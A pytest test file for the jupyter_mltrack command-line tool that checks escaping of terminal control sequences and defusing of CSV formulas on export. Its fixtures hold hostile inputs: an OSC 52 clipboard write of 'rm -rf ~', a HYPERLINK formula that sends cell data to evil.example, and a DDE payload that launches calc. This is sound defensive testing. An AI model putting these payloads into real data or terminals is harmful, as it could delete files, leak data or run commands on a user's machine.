"""A store writer attacking the reader's terminal and spreadsheet through `mltrack`.

Stored names, paths and values carry an OSC 52 clipboard write, a screen clear, C1
controls, a bidi override and newlines; every command that prints them must show them
escaped (`cli.terminal`), on SQLite and PostgreSQL. `export --format csv` must not write a
live formula, and numbers must stay numbers."""

from __future__ import annotations

import csv
import io
import json
import sys
import unicodedata
from pathlib import Path
from typing import Any

import nbformat
import pytest
from client_helpers import metric_logging_only
from nbformat.v4 import new_code_cell, new_notebook

import jupyter_mltrack as mlt
from jupyter_mltrack import checkpoints as ckpt
from jupyter_mltrack.cli import main
from jupyter_mltrack.cli.export import csv_cell
from jupyter_mltrack.cli.terminal import EscapingStream, escape
from jupyter_mltrack.store.engine import Store

CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"  # OSC 52: put "rm -rf ~" on the clipboard
CLEAR = "\x1b[2J\x1b[H"
HOSTILE = f"evil{CLIPBOARD}{CLEAR}\x9b31m\u202etxt.exe\x85two\nlines\r\x08"
# What no output may contain: any character of these Unicode categories, but the newline.
UNPRINTABLE_CATEGORIES = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def unprintable(text: str) -> list[str]:
    return [c for c in text if c != "\n" and unicodedata.category(c) in UNPRINTABLE_CATEGORIES]


@pytest.fixture(autouse=True)
def _metric_logging_only(monkeypatch: pytest.MonkeyPatch) -> None:
    metric_logging_only(monkeypatch)


def _cli(capsys: pytest.CaptureFixture[str], store: Store, *argv: str) -> tuple[int, str, str]:
    code = main(["--store", store.config.url, "--blobs", str(store.config.blob_root), *argv])
    out = capsys.readouterr()
    return code, out.out, out.err


@pytest.fixture
def hostile_run(store: Store) -> str:
    run = mlt.init_run(
        store=store.config.url,
        blobs=str(store.config.blob_root),
        project="sec",
        name=HOSTILE,
        description=HOSTILE,
        tags=[HOSTILE],
    )
    run[f"params/{CLIPBOARD}x"] = HOSTILE
    run["params/formula"] = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    run["params/plus"] = "+1+cmd|' /C calc'!A0"
    run["params/minus"] = "-2+3"
    run["params/at"] = "@SUM(1+1)"
    run["params/tab"] = "\t=1+1"
    run["params/cr"] = "\r=1+1"
    run["params/negative"] = -0.5
    run["params/negative_int"] = -3
    run["log"].log(HOSTILE)
    run["log"].log("=1+1")
    run["loss"].log(-0.25, step=-1)
    run.stop()
    return run.id


def test_escape_covers_every_unprintable_character() -> None:
    """The hand-built character class against this Python's Unicode database: every control,
    format, surrogate and separator character is escaped (the newline too, unless kept);
    nothing printable is."""
    for code in range(0x110000):
        c = chr(code)
        category = unicodedata.category(c)
        out = escape(c)
        if category in UNPRINTABLE_CATEGORIES:
            assert out != c and out.isascii() and out.startswith("\\"), (hex(code), out)
        elif category != "Cn":  # unassigned in this Python may be assigned in a newer one
            assert out == c, hex(code)
    assert escape("a\nb", keep_newlines=True) == "a\nb" and escape("a\nb") == "a\\x0ab"
    assert escape("\x1b\x85\u202e\ud800\U000e0041") == "\\x1b\\u0085\\u202e\\ud800\\udb40\\udc41"


def test_escaped_json_stays_valid_and_reads_back_equal() -> None:
    value = {"k": "\x7f\x85\u202e\ud800\U000e0041 \u00e9\u4e2d"}
    text = escape(json.dumps(value, ensure_ascii=False))
    assert not unprintable(text) and json.loads(text) == value
    out = io.StringIO()
    EscapingStream(out).write(f"{HOSTILE}\n")
    assert not unprintable(out.getvalue()) and out.getvalue().endswith("lines\\x0d\\x08\n")


def test_every_command_prints_stored_control_characters_escaped(
    capsys: pytest.CaptureFixture[str],
    store: Store,
    hostile_run: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # A wide terminal: tables fit their columns to it, and the escapes must show whole.
    monkeypatch.setenv("COLUMNS", "1000")
    root = tmp_path / "nbs"
    root.mkdir()
    nbformat.write(new_notebook(cells=[new_code_cell(HOSTILE)]), root / "a.ipynb")
    cp = ckpt.create("a.ipynb", name=HOSTILE, description=HOSTILE, root=root, store=store)
    nbformat.write(new_notebook(cells=[new_code_cell("changed")]), root / "a.ipynb")
    other = mlt.init_run(store=store.config.url, blobs=str(store.config.blob_root), project="sec")
    other.stop()
    commands: list[tuple[str, ...]] = [
        ("runs",),
        ("runs", "-c", "params/formula"),
        ("show", hostile_run),
        ("compare", hostile_run, other.id),
        ("checkpoints",),
        ("checkpoints", "a.ipynb"),
        ("diff", cp["id"], "--root", str(root)),
        ("show", hostile_run, "--json"),
        ("runs", "--json"),
        ("compare", hostile_run, other.id, "--json"),
        ("export", hostile_run),
        ("export", hostile_run, "-f", "csv"),
        ("show", f"{CLIPBOARD}NOPE-1"),  # an error message quoting the argument
    ]
    for argv in commands:
        code, out, err = _cli(capsys, store, *argv)
        assert code == (1 if "NOPE-1" in argv[-1] else 0), (argv, err)
        assert not unprintable(out + err), (argv, unprintable(out + err), out + err)
        is_json = "--json" in argv or (argv[0] == "export" and "csv" not in argv)
        # JSON escapes C0 controls itself; everything else escapes them the CLI's way.
        assert ("\\u001b" if is_json else "\\x1b") in out + err, (argv, out)
        if is_json:
            json.loads(out)  # escaped the JSON way: still valid JSON
    # A stored newline never starts a line of a table: one row per run, one per field.
    code, out, _ = _cli(capsys, store, "runs")
    assert len(out.splitlines()) == 2 + 2 + 2  # header, rule, two runs, blank, count
    # JSON read back equals what was stored, control characters and all.
    code, out, _ = _cli(capsys, store, "show", hostile_run, "--json")
    assert json.loads(out)["sys"]["sys/name"] == HOSTILE
    code, out, _ = _cli(capsys, store, "export", hostile_run)
    assert json.loads(out)["fields"][f"params/{CLIPBOARD}x"] == HOSTILE


def test_an_argument_that_is_not_utf8_is_escaped_not_a_crash(
    capsys: pytest.CaptureFixture[str], store: Store
) -> None:
    """Python hands undecodable argv bytes over as lone surrogates; printing one raw raised
    UnicodeEncodeError (a traceback) before the escaping."""
    code, out, err = _cli(capsys, store, "show", "RUN-\udcff")
    assert code == 1 and "\\udcff" in err and not unprintable(out + err)


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_writes_no_live_formula_and_keeps_numbers(
    capsys: pytest.CaptureFixture[str], store: Store, hostile_run: str, tmp_path: Path
) -> None:
    target = tmp_path / "run.csv"
    code, _, _ = _cli(capsys, store, "export", hostile_run, "-f", "csv", "-o", str(target))
    assert code == 0
    code, out, _ = _cli(capsys, store, "export", hostile_run, "-f", "csv")
    assert code == 0
    for text in (target.read_bytes().decode("utf-8"), out):
        rows = _csv_rows(text)
        for row in rows:
            for column, value in row.items():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
        by_path = {r["path"]: r for r in rows if r["step"] == ""}
        assert by_path["params/formula"]["value"].startswith("'=HYPERLINK(")
        assert by_path["params/plus"]["value"] == "'+1+cmd|' /C calc'!A0"
        assert by_path["params/minus"]["value"] == "'-2+3"
        assert by_path["params/at"]["value"] == "'@SUM(1+1)"
        assert by_path["params/tab"]["value"].startswith("'")
        assert by_path["params/cr"]["value"].startswith("'")
        # Numbers we write as numbers stay numbers, negative ones included.
        assert by_path["params/negative"]["value"] == "-0.5"
        assert by_path["params/negative_int"]["value"] == "-3"
        loss = [r for r in rows if r["path"] == "loss"]
        assert loss[0]["step"] == "-1.0" and loss[0]["value"] == "-0.25"
        assert float(loss[0]["timestamp"]) > 0
        logged = [r["value"] for r in rows if r["path"] == "log"]
        assert logged[1] == "'=1+1"
    # The file keeps the exact text (no terminal escaping): the stored value, quote-prefixed
    # only where it starts like a formula.
    rows = _csv_rows(target.read_bytes().decode("utf-8"))
    assert next(r["value"] for r in rows if r["path"] == "log") == HOSTILE


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-x", "'-x"),
        ("+x", "'+x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("x=1", "x=1"),
        ("", ""),
        (-0.5, -0.5),
        (-3, -3),
        (float("-inf"), float("-inf")),
    ],
)
def test_csv_cell(value: Any, written: Any) -> None:
    assert csv_cell(value) == written


def test_the_cli_restores_its_streams(capsys: pytest.CaptureFixture[str], store: Store) -> None:
    before = sys.stdout, sys.stderr
    _cli(capsys, store, "runs")
    assert (sys.stdout, sys.stderr) == before
